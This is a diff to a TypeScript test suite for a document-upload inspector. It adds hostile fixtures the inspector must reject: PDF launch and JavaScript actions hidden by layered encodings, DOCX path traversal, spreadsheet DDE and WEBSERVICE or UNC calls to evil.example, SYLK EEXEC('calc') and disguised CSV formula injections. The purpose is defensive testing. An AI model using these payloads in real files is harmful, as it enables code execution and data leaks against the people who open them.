@@ -58,6 +58,10 @@ const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
 const SCRIPT = '<</S /JavaScript /JS (app.alert(1))>>';
 /** An object stream of one object, numbered 9. */
 type Packing = { type?: string; pack?: (bytes: Buffer) => Buffer; filter?: string };
+/** Packed by Flate with a byte before each other, which a reader that is told so leaves out again. */
+const apart = (bytes: Buffer) => deflateSync(Buffer.from([...bytes].flatMap((byte) => [0, byte])));
+const twice = (bytes: Buffer) => deflateSync(`${bytes.toString('hex')}>`.replaceAll(/../g, '$& '));
+const PARMS = '/DecodeParms<</Predictor 12/Columns 1>>';
 const objectStream = (
   object: string,
   { type = '/Type/ObjStm', pack = (bytes) => deflateSync(bytes), filter = 'FlateDecode' }: Packing = {},
@@ -130,6 +134,43 @@ const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: Docum
     () => xlsx({ 'xl/externalLinks/externalLink1.xml': '<e><ddeLink ddeService="cmd"/></e>' }),
     'dde',
   ],
+  ['outside.docx', () => docx({ '../../../x': 'x' }), 'damaged'],
+  ['rooted.docx', () => docx({ '/etc/x': 'x' }), 'damaged'],
+  ['drive.docx', () => docx({ 'C:\\x': 'x' }), 'damaged'],
+  [
+    'attributes.docx',
+    () => body(`<a ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
+    'damaged',
+  ],
+  ['film.docx', () => body('<wp15:webVideoPr xmlns:wp15="wp" embeddedHtml="&lt;iframe/&gt;"/>'), 'external'],
+  [
+    'pane.docx',
+    () =>
+      docx({ 'word/webextensions/taskpanes.xml': '<p:taskpanes xmlns:p="p"><p:taskpane/></p:taskpanes>' }),
+    'external',
+  ],
+  [
+    'added.docx',
+    () => docx({ 'word/webextensions/a.xml': '<p:webextension xmlns:p="p" store="\\\\evil"/>' }),
+    'external',
+  ],
+  ['ribbon.docx', () => docx({ 'customUI/customUI.xml': '<customUI onLoad="x"/>' }), 'macros'],
+  ['script.docx', () => docx({ 'word/media/a.svg': '<svg><script>1</script></svg>' }), 'macros'],
+  ['script.odt', () => odt('<office:scripts><office:script/></office:scripts>'), 'macros'],
+  ['spaced.xlsx', () => sheet('WEBSERVICE ("http://evil.example")'), 'external'],
+  ['sql.xlsx', () => sheet('SQL.REQUEST("DSN=x","","SELECT 1")'), 'external'],
+  ['share.xlsx', () => sheet("'\\\\evil.example\\[x.xlsx]S'!A1"), 'external'],
+  ['click.xlsx', () => sheet('HYPERLINK( "file://evil.example/x","x")'), 'external'],
+  ...['formula', 'formula1', 'formula2', 'calculatedColumnFormula'].map((name): (typeof HOSTILE)[number] => [
+    `${name}.xlsx`,
+    () => xlsx({ 'xl/worksheets/sheet1.xml': `<s><${name}>WEBSERVICE("http://a")</${name}></s>` }),
+    'external',
+  ]),
+  [
+    'query.xlsx',
+    () => xlsx({ 'customXml/item1.xml': '<DataMashup xmlns="m">AAAA</DataMashup>' }),
+    'external',
+  ],
   ['cmd.xlsx', () => sheet("cmd|'/c calc'!A0"), 'dde'],
   ['web.xlsx', () => sheet('_xlfn.WEBSERVICE("http://evil.example")'), 'external'],
   ['rtd.xlsx', () => sheet('1+rtd("x",,"y")'), 'external'],
@@ -156,6 +197,18 @@ const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: Docum
   ['tab.csv', () => Buffer.from('a,"\t=1+1"\n'), 'formula'],
   ['return.csv', () => Buffer.from('a\r=1+1'), 'formula'],
   ['mark.csv', () => Buffer.from('\uFEFF=1+1'), 'formula'],
+  ['wide.csv', () => Buffer.from('a,＝1+1\n'), 'formula'],
+  ['wide-at.csv', () => Buffer.from('＠SUM(1)\n'), 'formula'],
+  ['wide-plus.csv', () => Buffer.from('a;＋1+cmd\n'), 'formula'],
+  ['parted.csv', () => Buffer.from('sep=^\na^=1+1\n'), 'formula'],
+  ['parted-quoted.csv', () => Buffer.from('\uFEFF"sep=x"\nax=1+1\n'), 'formula'],
+  ['nothing-quoted.csv', () => Buffer.from('a,""=1+1\n'), 'formula'],
+  ['sign-quoted.csv', () => Buffer.from('a,"-"2+cmd\n'), 'formula'],
+  ['indented.csv', () => Buffer.from('a, \u00a0=1+1\n'), 'formula'],
+  ['unseen.csv', () => Buffer.from('a,\u200b=1+1\n'), 'formula'],
+  ['latin.csv', () => Buffer.from('a,\u00a0=1+1\n', 'latin1'), 'formula'],
+  ['sylk.csv', () => Buffer.from('ID;P\nC;Y1;X1;EEXEC("calc")\nE\n'), 'disguised'],
+  ['sylk.txt', () => Buffer.from('ID;PWXL;N;E\n'), 'disguised'],
   ['eicar.txt', () => Buffer.from(EICAR), 'malware'],
   ['launch.pdf', () => pdf(`/OpenAction ${LAUNCH}`), 'active'],
   ['script.pdf', () => pdf('/OpenAction 2 0 R', [SCRIPT]), 'active'],
@@ -185,6 +238,31 @@ const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: Docum
       ]),
     'damaged',
   ],
+  ['bytes-apart.pdf', () => pdf('', [objectStream(SCRIPT, { type: PARMS, pack: apart })]), 'damaged'],
+  [
+    'bytes-apart-spelt.pdf',
+    () => pdf('', [objectStream(SCRIPT, { type: PARMS.replace('Dec', '#44ec'), pack: apart })]),
+    'damaged',
+  ],
+  [
+    'bytes-apart-remark.pdf',
+    () => pdf('', [objectStream(SCRIPT, { type: `${PARMS}%3 0 obj<<\n`, pack: apart })]),
+    'damaged',
+  ],
+  [
+    'bytes-apart-string.pdf',
+    () => pdf('', [objectStream(SCRIPT, { type: `${PARMS}/X(\n3 0 obj<<)`, pack: apart })]),
+    'damaged',
+  ],
+  [
+    'packed-twice.pdf',
+    () => pdf('', [objectStream(SCRIPT, { filter: '[/FlateDecode/ASCIIHexDecode]', pack: twice })]),
+    'damaged',
+  ],
+  ['bytes-elsewhere.pdf', () => pdf('', ['<</F(http://evil.example/x)/FFilter/FlateDecode>>']), 'external'],
+  ['model.pdf', () => pdf('', ['<</Subtype/3D/OnInstantiate 3 0 R>>']), 'active'],
+  ['film.pdf', () => pdf('', ['<</Subtype /Movie/Movie<</F(http://evil.example)>>>>']), 'active'],
+  ['program.pdf', () => pdf('', ['<</Type/XObject/Subtype/PS>>']), 'active'],
   ['bomb.pdf', () => pdf('', [objectStream(' '.repeat(101 * 1024 * 1024))]), 'bomb'],
   ['attached.pdf', () => pdf('/Names<</EmbeddedFiles 2 0 R>>'), 'embedded'],
   ['pinned.pdf', () => pdf('', ['<</Subtype/FileAttachment/FS 3 0 R>>']), 'embedded'],
@@ -278,6 +356,7 @@ describe('what is like it and harmless', () => {
     ['contents.docx', () => field(code('HYPERLINK \\l "_Toc1"'))],
     ['address.docx', () => field(code('HYPERLINK "https://oas.example"'))],
     ['sum.xlsx', () => sheet('SUM(A1:A3)')],
+    ['click.xlsx', () => sheet('HYPERLINK("https://oas.example","x")')],
     ['link.odt', () => odt('<text:a xlink:href="https://oas.example">x</text:a>')],
     ['words.pdf', () => pdf('/OpenAction[2 0 R/Fit]', ['(/Launch and https://a.example/JavaScript)'])],
     [
@@ -293,6 +372,7 @@ describe('what is like it and harmless', () => {
     ['chart.docx', async () => docx({ 'word/embeddings/t.xlsx': await sheet('SUM(A1:A3)') })],
     ['picture.docx', () => docx({ 'word/media/a.pdf': pdf(''), 'word/media/b.png': PNG })],
     ['angle.txt', () => Buffer.from('<ana@oas.example> escribió:')],
+    ['dashes.csv', () => Buffer.from('\uFEFFtema,nota\n"a, ""b""", - después\nsep=,x\n')],
     ['figures.csv', () => Buffer.from('país;fecha;tel\nPerú;-3,5;+51 1 630-6000\n"a=b";"Lima, Perú";-\n')],
   ])('%s is taken', async (name, made) => {
     await expect(inspect(name, await made())).resolves.toBeUndefined();
